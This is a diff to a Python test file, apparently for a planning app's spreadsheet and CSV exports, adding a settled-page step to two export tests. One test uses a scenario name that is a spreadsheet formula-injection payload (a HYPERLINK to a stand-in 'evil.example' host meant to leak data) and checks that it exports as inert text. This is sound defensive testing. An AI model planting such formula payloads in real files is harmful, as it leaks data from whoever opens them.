@@ -210,6 +210,7 @@ def test_exports_are_real_workbooks_and_csv(client, make_user, make_scenario):
         unit_costs={"independent_special": 65000},
     )
     finance = signed_in(client, make_user, "finance")
+    settled(client, f"/planning/scenarios/{scenario.pk}/")  # the export is of the kept run the page showed
     response = client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx")
     assert response.status_code == 200 and 'filename="places.xlsx"' in response["Content-Disposition"]
     wb = load_workbook(io.BytesIO(response.content))
@@ -271,6 +272,7 @@ def test_a_scenario_named_as_a_formula_exports_as_text(client, make_user, make_s
     name = '=HYPERLINK("http://evil.example/?leak","Open")'
     scenario = make_scenario(name=name)
     signed_in(client, make_user, "finance")
+    settled(client, f"/planning/scenarios/{scenario.pk}/")
     wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
     assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
